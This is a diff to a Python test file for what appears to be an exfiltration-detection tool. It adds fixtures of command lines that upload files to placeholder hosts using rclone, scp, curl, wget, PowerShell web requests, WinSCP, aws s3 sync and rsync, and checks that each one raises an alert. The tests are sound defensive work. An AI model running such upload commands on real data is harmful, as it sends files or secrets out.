@@ -110,6 +110,48 @@ def test_renamed_tools_by_their_own_name_or_hash(tmp_path: Path) -> None:
     assert [(alert.severity, alert.tool) for alert in got] == [("high", "rclone"), ("critical", "rclone"), ("critical", "rclone")]
 
 
+# Other ways to write the same: arguments in other order, quoted, abbreviated, in other case; other slashes.
+VARIANTS = [
+    (r"C:\Program Files\rclone\RCLONE.EXE", r'"C:\Program Files\rclone\RCLONE.EXE" --config="C:\t\a.conf" copyto "C:\data dir\x.7z" remote:bk/x.7z'),
+    ("D:/tools/rclone.exe", "D:/tools/rclone.exe sync D:/data remote:"), ("/usr/local/bin/rclone", "rclone --transfers=8 move /data :sftp,host=192.0.2.1:/in"),
+    (r"C:\t\pscp.exe", r'"C:\t\pscp.exe" -P 2222 -batch -i k.ppk "C:\my files\a.zip" user@host.example:'),
+    (r"C:\Windows\System32\OpenSSH\scp.exe", r"scp.exe -r C:\data\ u@[2001:db8::1]:/in/"), ("/usr/bin/scp", "scp f scp://u@host.example:22//in/f"),
+    ("/usr/bin/scp", "scp -o StrictHostKeyChecking=no f 'u@host.example:/dir with blank/'"), ("/usr/bin/curl", "curl -sSkT - sftp://u@192.0.2.1/x"),
+    ("/usr/bin/curl", 'curl https://x.example/u --form "my file=@/tmp/a.zip"'), ("/usr/bin/curl", "curl https://x.example -d@/tmp/a"),
+    ("/usr/bin/curl", "curl --data-urlencode content@/tmp/a https://x.example"), ("/usr/bin/wget", "wget --post-file /tmp/a https://x.example/"),
+    (SHELL, "powershell -c iwr https://x.example/u -Me Post -InF d.zip"), (SHELL, "powershell -c Invoke-RestMethod -Uri https://x.example -Method:Put"),
+    (SHELL, "powershell -c curl https://x.example/u -Method POST -Body $b"), (SHELL, "powershell -c INVOKE-WEBREQUEST https://x.example -METHOD 'post'"),
+    (SHELL, "powershell -c (new-object net.webclient).uploadfile('https://x.example/u','d.zip')"),
+    (SHELL, "powershell -c Send-MailMessage -To a@b.example -SmtpServer s -Port:587 -UseSSL"),
+    (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\Program Files (x86)\WinSCP\winscp.com" /command "put d.zip" exit'),
+    (r"C:\a\aws.exe", r'"C:\Program Files\Amazon\AWSCLIV2\aws.exe" s3 sync "C:\my data" s3://b/'), ("/usr/bin/rsync", "rsync -az /data rsync://h.example/in"),
+]
+
+
+def test_other_ways_to_write_the_same_raise_an_alert(tmp_path: Path) -> None:
+    raised = [alert.tool for alert in alerts(tmp_path, [sysmon(*case) for case in VARIANTS]) if alert.rule == "netexfil"]
+    assert len(raised) == len(VARIANTS)
+
+
+def test_only_sysmon_and_falcon_pass_the_seeds(tmp_path: Path) -> None:
+    """OCSF counts its activities 1, 2, 3 as Sysmon counts its events."""
+    common = {"time": 1772600767000, "device": {"hostname": "ws1"}}
+    program = {"file": {"path": r"C:\t\rclone.exe"}, "cmd_line": "rclone.exe copy C:\\d r:", "pid": 7}
+    launch = common | {"class_uid": 1007, "activity_id": 1, "process": program}
+    connect = common | {"class_uid": 4001, "activity_id": 3, "actor": {"process": program}, "src_endpoint": {"ip": "10.1.2.3", "port": 50000},
+                        "dst_endpoint": {"ip": "192.0.2.1", "port": 22}}
+    assert [alert.rule for alert in alerts(tmp_path, [launch, connect])] == ["netexfil"]
+
+
+def test_values_beyond_all_measure_stop_no_rule(tmp_path: Path) -> None:
+    """A time or severity that no product writes is no value; the record is judged without it."""
+    start = made.START | {"UtcTime": "99999999999999999999999.5:3"}
+    far = made.flat(made.SYSMON, 1, start) | {"@timestamp": "9999-12-31 23:59:59.999"}
+    plain = [{"kind": "alert", "ts": 1772600767, "host": "a", "severity": severity} for severity in (99999999999999, -1, 2)]
+    got = alerts(tmp_path, [far, made.flat(made.SYSMON, 1, made.START), *plain])
+    assert [alert.rule for alert in got].count("splunk") == 2
+
+
 BENIGN = [
     ("/usr/bin/curl", "curl -sS -o /dev/null https://mirror.updates.example/pub/pkg8.bin"), ("/usr/bin/curl", "curl -fsSL https://get.example/x.sh"),
     ("/usr/bin/wget", "wget -q -O /dev/null https://mirror.updates.example/pub/pkg1.bin"), ("/usr/bin/git", "git clone -q git.example:/srv/app.git w"),
